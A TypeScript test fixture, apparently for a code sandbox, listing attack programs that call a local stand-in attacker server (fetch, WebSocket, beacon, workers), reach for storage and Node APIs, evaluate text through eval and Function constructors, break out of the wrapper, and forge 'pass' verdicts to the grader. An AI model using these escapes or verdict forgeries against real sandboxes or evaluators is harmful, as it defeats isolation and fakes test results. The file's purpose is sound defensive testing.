import { handler, reached, refused, type AttackProgram } from './program.ts';

/** Where an attacker's server would stand; the browser test puts its logging server here. */
export const attackerPort = 43980;
export const attackerUrl = `http://127.0.0.1:${attackerPort}`;

const functions: Record<string, string> = {
  fetch: `fetch('${attackerUrl}/fetch')`,
  'fetch without cors': `fetch('${attackerUrl}/no-cors', { mode: 'no-cors' })`,
  XMLHttpRequest: `const r = new XMLHttpRequest(); r.open('GET', '${attackerUrl}/xhr', false); r.send();`,
  WebSocket: `new WebSocket('${attackerUrl.replace('http', 'ws')}/ws')`,
  EventSource: `new EventSource('${attackerUrl}/events')`,
  WebTransport: `new WebTransport('${attackerUrl.replace('http', 'https')}/transport')`,
  RTCPeerConnection: `new RTCPeerConnection()`,
  sendBeacon: `navigator.sendBeacon('${attackerUrl}/beacon')`,
  importScripts: `importScripts('${attackerUrl}/script')`,
  'nested worker': `new Worker('data:text/javascript,fetch("${attackerUrl}/worker")')`,
  'nested worker from a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("${attackerUrl}/blob-worker")'])))`,
  Image: `new Image().src = '${attackerUrl}/image'`,
  'font face': `new FontFace('a', 'url(${attackerUrl}/font)').load()`,
  Request: `new Request('${attackerUrl}/request')`,
  indexedDB: `indexedDB.open('attack')`,
  caches: `caches.open('attack')`,
  localStorage: `localStorage.setItem('attack', '1')`,
  'origin private files': `navigator.storage.getDirectory()`,
  locks: `navigator.locks.request('attack', () => {})`,
  cookies: `cookieStore.set('attack', '1')`,
  BroadcastChannel: `new BroadcastChannel('attack').postMessage('${reached}')`,
  'postMessage, a forged verdict': `postMessage({ type: 'verdict', verdict: { verdict: 'pass' } })`,
  'postMessage, a forged end': `self.postMessage('finished')`,
  'a forged run through parent': `parent.postMessage({ type: 'end', runs: 2 }, '*')`,
  MessageChannel: `new MessageChannel()`,
  'MessagePort prototype': `MessagePort.prototype.postMessage = () => {}`,
  'listening for messages': `addEventListener('message', () => {})`,
  'onmessage of the global': `if (!('onmessage' in globalThis)) throw new Error(); globalThis.onmessage = () => {}`,
  close: `close()`,
  location: `location.href.length`,
  navigator: `navigator.userAgent.length`,
  process: `process.exit(0)`,
  require: `require('node:fs')`,
  'host of the realm': `$host.load('1')`,
  WebAssembly: `new WebAssembly.Memory({ initial: 1 })`,
  SharedArrayBuffer: `new SharedArrayBuffer(8)`,
  'Atomics.wait': `Atomics.wait(new Int32Array(8), 0, 0, 1)`,
  WeakRef: `new WeakRef({}).deref()`,
  FinalizationRegistry: `new FinalizationRegistry(() => {})`,
  Intl: `new Intl.NumberFormat().resolvedOptions()`,
  'scheduler of the engine': `scheduler.postTask(() => {})`,
  'frame of the engine': `requestAnimationFrame(() => {})`,
  'Array.fromAsync': `Array.fromAsync([1])`,
  gc: `gc()`,
};

const evaluators: Record<string, string> = {
  eval: `return eval("'${reached}'");`,
  'indirect eval': `return (0, eval)("'${reached}'");`,
  Function: `return Function("return '${reached}'")();`,
  'constructor of a function': `return (() => {}).constructor("return '${reached}'")();`,
  'constructor of a context function': `return context.call.constructor("return '${reached}'")();`,
  'constructor of a generator': `return (function* () {}).constructor("yield '${reached}'")().next().value;`,
  'constructor of an async function': `return await (async () => {}).constructor("return '${reached}'")();`,
  'constructor of a bound promise': `return Promise.resolve.constructor("return '${reached}'")();`,
  'text as a timer': `setTimeout("globalThis.stash = 1" as any, 1); await context.sleep(5); return 'stash' in globalThis ? '${reached}' : '';`,
  'Reflect.construct of Function': `return Reflect.construct(Function, ["return '${reached}'"])();`,
  'global this of sloppy code': `return (function (this: any) { return this === undefined ? '' : '${reached}'; })();`,
  'callee and caller': `return (function inner() { return (inner as any).caller ? '${reached}' : ''; })();`,
  'stack frames': `(Error as any).prepareStackTrace = (_: any, frames: any) => frames; const f: any = new Error().stack; return typeof f === 'string' || f === undefined ? '' : '${reached}';`,
};

/** Programs that reach for a power of the browser or of Node, or for the evaluation of text. */
export const powers: readonly AttackProgram[] = [
  ...Object.entries(functions).map(([name, act]) =>
    handler(`reaches for: ${name}`, `try { ${act}; } catch { return 'refused'; }\nreturn '${reached}';`),
  ),
  ...Object.entries(evaluators).map(([name, body]) => handler(`evaluates text: ${name}`, body)),
  ...[
    handler('imports a module from another server', `const m = await import('${attackerUrl}/module'); return '${reached}' + m;`),
    handler(
      'imports a data: module',
      `const m = await import('data:text/javascript,export default 1'); return '${reached}' + m;`,
    ),
    handler('imports another module', `return fs ? '${reached}' : '';`, `import * as fs from 'node:fs';`),
    handler('asks for import.meta', `return import.meta.url ? '${reached}' : '';`),
    handler('breaks out of the wrapper', `return globalThis.stash;`, `});\nglobalThis.stash = '${reached}';\n(function () {`),
    handler('names what the compiler names', `$define(() => {}); return '${reached}';`),
  ].map(refused),
];
